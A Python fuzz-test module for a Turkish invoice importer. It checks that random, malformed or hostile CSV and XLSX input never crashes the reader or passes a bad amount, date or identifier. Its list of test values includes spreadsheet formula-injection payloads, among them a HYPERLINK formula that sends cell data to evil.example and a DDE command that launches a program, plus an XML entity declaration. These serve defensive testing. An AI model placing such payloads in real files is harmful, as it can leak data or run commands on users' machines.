"""Adversarial inputs for the importer: whatever comes in, the answer is an ImportResult or a
file-level InputError, and no row with a bad amount, date or identifier is ever valid."""

import csv
import hashlib
import io
import os
import zipfile
from collections import defaultdict

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from paynet_core.errors import InputError
from paynet_core.importing import (
    DEFAULT_MAX_BYTES,
    MAX_IDENTIFIER_CHARS,
    ImportResult,
    InvoiceRow,
    read_invoice_rows,
    read_status_rows,
    template_csv,
    template_xlsx,
)
from paynet_core.money import MAX_KURUS, parse_amount
from paynet_core.reports.cells import unneutralise_cell

FUZZ = settings(
    max_examples=int(os.environ.get("PAYNET_FUZZ_EXAMPLES", "200")),
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)

#: distinct inputs tried per suite, printed at the end of the module (run with -s to see them).
TRIED: dict[str, set[str]] = defaultdict(set)


def note(suite, *parts):
    digest = hashlib.blake2b(
        repr(parts).encode("utf-8", "surrogatepass"), digest_size=16
    ).hexdigest()
    TRIED[suite].add(digest)


@pytest.fixture(scope="module", autouse=True)
def _report_counts():
    yield
    total = sum(len(v) for v in TRIED.values())
    lines = [f"  {name}: {len(seen)}" for name, seen in sorted(TRIED.items())]
    print(f"\nimporter fuzz: {total} distinct inputs\n" + "\n".join(lines))


NASTY = [
    "",
    " ",
    "1e5",
    "1E5",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "-0",
    "-0,00",
    "0",
    "0,001",
    "0.001",
    "١٢٣",
    "१२३",
    "１２３",
    "1.234",
    "1,234",
    "12,345",
    "-5",
    "−5",
    "10,",
    ",5",
    "1..2",
    "1,2,3",
    "0x10",
    "1_000",
    "½",
    "²",
    "10 USD",
    "=1+1",
    "+1",
    "@SUM(A1)",
    "-2+3",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "\t=1",
    "\r=1",
    "\x07",
    "\u200b",
    "\u202e5",
    "\ufeff1",
    "😀",
    "5😀",
    "İptal\x00",
    "9" * 4400,
    "1" * 100_000,
    "x" * 100_000,
    "31.02.2026",
    "9999-12-31T23:59:59Z",
    "0001-01-01T00:00:00+14:00",
    "23.11.1899",
    "Cancel",
    "7",
    "True",
    "None",
    "null",
]

nasty = st.sampled_from(NASTY)
any_text = st.text(max_size=40)
cell = st.one_of(nasty, any_text, st.from_regex(r"[0-9.,₺ TL-]{1,12}", fullmatch=True))
bad_amount = st.one_of(
    st.sampled_from(
        [
            "-5",
            "0",
            "-0",
            "0,001",
            "1e5",
            "NaN",
            "١٢٣",
            "1.234",
            "abc",
            "=1+1",
            "1" * 100_000,
            "",
            "-0,00",
        ]
    ),
    st.decimals(min_value=-(10**12), max_value=0, places=2, allow_nan=False).map(str),
    st.decimals(min_value=1, max_value=10**6, places=3, allow_nan=False)
    .filter(lambda d: d != d.quantize(1))
    .map(lambda d: format(d, "f")),
    st.integers(min_value=MAX_KURUS // 100 + 1, max_value=10**15).map(str),
    st.text(alphabet="abcxyz!?#€$%&", min_size=1, max_size=10),
)

INVOICE_HEADER = [
    "abonelik_no",
    "fatura_no",
    "tutar",
    "tarih",
    "bayi_tutari",
    "firma_tutari",
    "para_birimi",
]


def _expected_amount(raw):
    """The oracle: what parse_amount says about the cell after the importer's own cleaning."""
    text = unneutralise_cell(raw.strip()).strip()
    try:
        return parse_amount(text)
    except Exception:  # noqa: BLE001 - any refusal means the row must be invalid
        return None


def _csv(rows, delimiter):
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    return buffer.getvalue().encode("utf-8", "surrogatepass")


def _xlsx(rows):
    wb = openpyxl.Workbook()
    for row in rows:
        wb.active.append(
            [ILLEGAL_CHARACTERS_RE.sub("", c) if isinstance(c, str) else c for c in row]
        )
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def check_invariants(result: ImportResult):
    assert isinstance(result, ImportResult)
    numbers = [r["row"] for r in result.records]
    assert len(numbers) == len(set(numbers)) == result.total_rows
    valid = {r.row for r in result.rows}
    assert not valid & result.invalid_rows
    assert valid | result.invalid_rows == set(numbers)
    assert result.valid_count + len(result.invalid_rows) == result.total_rows
    for error in result.errors:
        assert error.message and len(error.message) < 1000
        assert error.value is None or len(error.value) <= 60
    for row in result.rows:
        if isinstance(row, InvoiceRow):
            assert 1 <= row.amount <= MAX_KURUS
            assert 2000 <= row.val_date.year < 2100 and row.val_date.tzinfo is not None
            for part in (row.agent_amount, row.company_amount):
                assert part is None or 0 <= part <= row.amount
            ids = [row.subscription_id, row.reference_no, row.invoice_no]
            assert row.subscription_id or row.reference_no
            assert row.currency == "TRY"
        else:
            ids = [row.invoice_no, row.invoice_id]
            assert row.invoice_no or row.invoice_id
        for ident in filter(None, ids):
            assert ident.isprintable() and len(ident) <= MAX_IDENTIFIER_CHARS
            assert not ident.startswith(("=", "+", "-", "@"))
    frame = result.as_dataframe()
    assert len(frame) == result.total_rows


def read_either(reader, data, name="upload.csv", **limits):
    try:
        result = reader(data, name, **limits)
    except InputError as exc:
        assert exc.field in ("file", "header")
        assert exc.message and len(exc.message) < 2000
        return None
    check_invariants(result)
    return result


# -- whole files -------------------------------------------------------------------------------


@FUZZ
@given(
    st.binary(max_size=3000),
    st.sampled_from(["f.csv", "f.xlsx", "f", "f.txt"]),
    st.sampled_from([read_invoice_rows, read_status_rows]),
)
def test_random_bytes_never_crash(data, name, reader):
    note("random bytes", data, name)
    read_either(reader, data, name)


@FUZZ
@given(
    st.sampled_from(
        [
            b"abonelik_no;tutar;tarih\r\n",
            b"fatura_no,durum\n",
            b"\xef\xbb\xbfFatura No\tHedef Durum\r\n",
        ]
    ),
    st.binary(max_size=2000),
)
def test_random_bytes_after_a_good_header_never_crash(header, body):
    note("header + random bytes", header, body)
    reader = read_invoice_rows if header.startswith(b"abonelik") else read_status_rows
    read_either(reader, header + body)


# Built once: a workbook's bytes hold a timestamp, and hypothesis needs the same input each run.
TEMPLATES = {kind: template_xlsx(kind) for kind in ("invoices", "statuses")}


@FUZZ
@given(st.sampled_from(["invoices", "statuses"]), st.data())
def test_damaged_workbooks_never_crash(kind, data):
    original = bytearray(TEMPLATES[kind])
    flips = data.draw(
        st.lists(
            st.tuples(st.integers(4, len(original) - 1), st.integers(0, 255)),
            min_size=1,
            max_size=8,
        )
    )
    for position, byte in flips:
        original[position] = byte
    cut = data.draw(st.integers(4, len(original)))
    damaged = bytes(original[:cut])
    note("damaged xlsx", kind, damaged)
    read_either(read_invoice_rows if kind == "invoices" else read_status_rows, damaged, "f.xlsx")


def _rezip(workbook: bytes, member: str, body: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(workbook))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, body if info.filename == member else source.read(info))
    return buffer.getvalue()


# openpyxl's normal mode writes shared strings (the write-only templates write inline ones).
SHARED_STRINGS_WORKBOOK = _xlsx(
    [
        INVOICE_HEADER,
        ["S1", "F1", 10.5, "23.11.2026", None, None, "TRY"],
        ["S2", "F2", "1.234,56", "24.11.2026", "1", "1.233,56", "TL"],
    ]
)
XML_SNIPPETS = [
    b"<",
    b">",
    b"</c>",
    b'<c r="ZZZ99999999" t="n"><v>x</v></c>',
    b"<v>1e999</v>",
    b't="b"',
    b't="e"',
    b't="d"',
    b"<v>-1</v>",
    b"&amp;",
    b"&bogus;",
    b"\x00",
    b'r="A0"',
    b'<row r="-5">',
    b'<!DOCTYPE x [<!ENTITY a "aaaa">]>',
]


@FUZZ
@given(
    st.sampled_from(
        [
            "xl/worksheets/sheet1.xml",
            "xl/sharedStrings.xml",
            "xl/workbook.xml",
            "xl/styles.xml",
            "[Content_Types].xml",
        ]
    ),
    st.data(),
)
def test_workbooks_with_broken_xml_never_crash(member, data):
    workbook = SHARED_STRINGS_WORKBOOK
    names = zipfile.ZipFile(io.BytesIO(workbook)).namelist()
    if member not in names:
        member = "xl/worksheets/sheet1.xml"
    xml = bytearray(zipfile.ZipFile(io.BytesIO(workbook)).read(member))
    for _ in range(data.draw(st.integers(1, 4))):
        start = data.draw(st.integers(0, len(xml)))
        end = data.draw(st.integers(start, min(len(xml), start + 40)))
        xml[start:end] = data.draw(st.sampled_from(XML_SNIPPETS) | st.binary(max_size=8))
    broken = _rezip(workbook, member, bytes(xml))
    note("broken xlsx xml", member, bytes(xml))
    read_either(read_invoice_rows, broken, "f.xlsx")


ENCODINGS = [
    "utf-8",
    "utf-8-sig",
    "cp1254",
    "iso-8859-9",
    "utf-16",
    "utf-16-le",
    "utf-16-be",
    "utf-32",
    "cp1251",
    "mac_roman",
    "cp850",
    "shift_jis",
    "gb18030",
]


@FUZZ
@given(
    st.sampled_from(ENCODINGS),
    st.lists(st.lists(cell, min_size=3, max_size=3), min_size=1, max_size=5),
)
def test_wrong_encodings_never_crash(encoding, rows):
    text = "\r\n".join(";".join(r) for r in [["Abonelik No", "Tutar", "Çekim Tarihi"], *rows])
    data = text.encode(encoding, errors="replace")
    note("wrong encodings", encoding, data)
    read_either(read_invoice_rows, data)


# -- cells -------------------------------------------------------------------------------------


@FUZZ
@given(
    st.lists(
        st.lists(cell, min_size=len(INVOICE_HEADER), max_size=len(INVOICE_HEADER)),
        min_size=1,
        max_size=6,
    ),
    st.sampled_from([";", ",", "\t", "xlsx"]),
)
def test_random_cells_never_crash_and_never_pass_a_bad_amount(rows, container):
    data = (
        _xlsx([INVOICE_HEADER, *rows])
        if container == "xlsx"
        else _csv([INVOICE_HEADER, *rows], container)
    )
    note("random cells", container, data)
    result = read_either(read_invoice_rows, data, "f.xlsx" if container == "xlsx" else "f.csv")
    if result is None or container == "xlsx":
        return  # xlsx: openpyxl turns "=..." cells into formulas, so the oracle does not apply
    by_row = {r.row: r for r in result.rows}
    for record in result.records:
        row = by_row.get(record["row"])
        if row is not None:
            raw = rows[record["row"] - 2][2]
            assert row.amount == _expected_amount(raw), (raw, row)


@FUZZ
@given(st.lists(bad_amount, min_size=1, max_size=6), st.sampled_from([";", "xlsx"]))
def test_bad_amounts_are_never_valid(amounts, container):
    rows = [[f"S{i}", f"F{i}", a, "23.11.2026", "", "", ""] for i, a in enumerate(amounts)]
    data = (
        _xlsx([INVOICE_HEADER, *rows])
        if container == "xlsx"
        else _csv([INVOICE_HEADER, *rows], container)
    )
    note("bad amounts", container, data)
    result = read_either(read_invoice_rows, data)
    if result is not None:
        assert result.rows == []
        assert {e.field for e in result.errors} <= {"amount"}


@FUZZ
@given(
    st.lists(st.tuples(cell, cell, cell), min_size=1, max_size=6), st.sampled_from([";", "xlsx"])
)
def test_random_status_cells_never_crash(rows, container):
    header = ["fatura_no", "fatura_id", "durum"]
    data = _xlsx([header, *rows]) if container == "xlsx" else _csv([header, *rows], container)
    note("random status cells", container, data)
    read_either(read_status_rows, data)


def test_each_nasty_value_in_each_column():
    good = {
        "abonelik_no": "S1",
        "fatura_no": "F1",
        "tutar": "10,00",
        "tarih": "23.11.2026",
        "bayi_tutari": "",
        "firma_tutari": "",
        "para_birimi": "",
    }
    for column in ("tutar", "tarih", "abonelik_no", "fatura_no", "bayi_tutari", "para_birimi"):
        for value in NASTY:
            row = {**good, column: value}
            note("nasty value per column", column, value)
            result = read_either(read_invoice_rows, _csv([INVOICE_HEADER, list(row.values())], ";"))
            if result is not None and result.rows:
                assert result.rows[0].amount == _expected_amount(row["tutar"]), (column, value)


# -- size limits -------------------------------------------------------------------------------


@FUZZ
@given(st.integers(min_value=300, max_value=20_000), st.integers(min_value=-2, max_value=2))
def test_files_around_the_size_limit(limit, offset):
    body = template_csv("invoices")
    size = limit + offset
    padding = size - len(body)
    if padding < 2:
        return
    data = body + b" " * (padding - 2) + b"\r\n"  # a blank last line: skipped by the reader
    assert len(data) == size
    note("size limit", limit, size)
    if size > limit:
        with pytest.raises(InputError, match=r"the limit is .* Split it into smaller files"):
            read_invoice_rows(data, "f.csv", max_bytes=limit)
    else:
        assert read_invoice_rows(data, "f.csv", max_bytes=limit).valid_count == 2


def test_a_file_of_exactly_the_default_limit_is_accepted_and_one_byte_more_is_refused():
    body = template_csv("invoices")
    # Blank lines, each under the csv module's 131,072-character cell limit.
    line = b" " * 99_998 + b"\r\n"
    count, rest = divmod(DEFAULT_MAX_BYTES - len(body), len(line))
    data = body + line * count + b" " * (rest - 2) + b"\r\n"
    assert len(data) == DEFAULT_MAX_BYTES
    note("size limit", "default", len(data))
    assert read_invoice_rows(data, "f.csv").valid_count == 2
    with pytest.raises(InputError, match="the limit is 20.0 MB"):
        read_invoice_rows(data + b" ", "f.csv")
    note("size limit", "default+1", len(data) + 1)


def test_an_xlsx_over_the_limit_is_refused_and_under_it_read():
    data = template_xlsx("invoices")
    note("size limit", "xlsx", len(data))
    assert read_invoice_rows(data, "f.xlsx", max_bytes=len(data)).valid_count == 2
    with pytest.raises(InputError, match="the limit is"):
        read_invoice_rows(data, "f.xlsx", max_bytes=len(data) - 1)
